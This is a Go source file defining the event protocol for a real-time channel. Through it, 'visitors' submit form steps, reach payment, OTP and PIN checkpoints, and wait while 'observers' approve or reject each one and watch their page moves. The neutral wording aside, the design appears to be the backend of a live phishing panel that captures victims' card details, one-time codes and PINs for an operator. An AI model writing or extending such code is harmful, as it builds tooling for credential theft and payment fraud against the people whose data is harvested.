// Package events defines the wire protocol for the bidirectional
// real-time channel: the inbound event union dispatched by each
// connection's read loop, and the outbound event names broadcast to
// observers and visitors.
package events

import (
	"encoding/json"
	"time"
)

// Inbound event names (client -> server).
const (
	EventIdentify          = "identify"
	EventPageChange        = "pageChange"
	EventSubmit            = "submit"
	EventCheckpointPayment = "checkpoint.payment"
	EventCheckpointOTP     = "checkpoint.otp"
	EventCheckpointPIN     = "checkpoint.pin"
	EventBulkRequest       = "bulk.request"
	EventDecisionPayment   = "decision.payment"
	EventDecisionOTP       = "decision.otp"
	EventDecisionPIN       = "decision.pin"
)

// Outbound event names (server -> clients).
const (
	EventEntryCreated        = "entry.created"
	EventVisitorConnected    = "visitor.connected"
	EventVisitorDisconnected = "visitor.disconnected"
	EventLocationUpdated     = "location.updated"
	EventDecisionResult      = "decision.result"
	EventBulkResponse        = "bulk.response"
)

// Envelope is the framing for every channel message in both directions.
type Envelope struct {
	Event string          `json:"event"`
	Data  json.RawMessage `json:"data,omitempty"`
}

// OutboundEnvelope is the server-side counterpart with an already
// serializable payload.
type OutboundEnvelope struct {
	Event string `json:"event"`
	Data  any    `json:"data,omitempty"`
}

// IdentifyPayload binds a channel to a visitor identity.
type IdentifyPayload struct {
	Identity string `json:"identity"`
}

// PageChangePayload reports the visitor moving between form pages.
type PageChangePayload struct {
	Identity string `json:"identity"`
	Page     string `json:"page"`
	Step     int    `json:"step,omitempty"`
}

// SubmitPayload carries one step submission.
type SubmitPayload struct {
	Identity string         `json:"identity"`
	Topic    string         `json:"topic"`
	Fields   map[string]any `json:"fields"`
	Page     string         `json:"page,omitempty"`
	Step     int            `json:"step,omitempty"`
}

// CheckpointPayload carries the decision-relevant data for a sensitive step.
type CheckpointPayload struct {
	Identity   string  `json:"identity"`
	MaskedCard string  `json:"maskedCard,omitempty"`
	Phone      string  `json:"phone,omitempty"`
	Amount     float64 `json:"amount,omitempty"`
	Code       string  `json:"code,omitempty"`
}

// DecisionPayload carries an observer's verdict for a visitor's checkpoint.
type DecisionPayload struct {
	Identity string `json:"identity"`
	Decision string `json:"decision"` // "approve" | "reject"
}

// BulkRequestPayload asks for a filtered slice of the entry log.
type BulkRequestPayload struct {
	Topic string     `json:"topicFilter,omitempty"`
	Since *time.Time `json:"since,omitempty"`
	Limit int        `json:"limit,omitempty"`
}

// DecisionResultPayload is delivered to the originating visitor only.
type DecisionResultPayload struct {
	Kind    string `json:"kind"`
	Status  string `json:"status"`
	Message string `json:"message,omitempty"`
}

// VisitorNoticePayload announces a visitor connecting or disconnecting.
type VisitorNoticePayload struct {
	Identity string `json:"identity"`
}

// LocationPayload announces a visitor moving to a new page.
type LocationPayload struct {
	Identity string `json:"identity"`
	Page     string `json:"page"`
	Step     int    `json:"step,omitempty"`
}
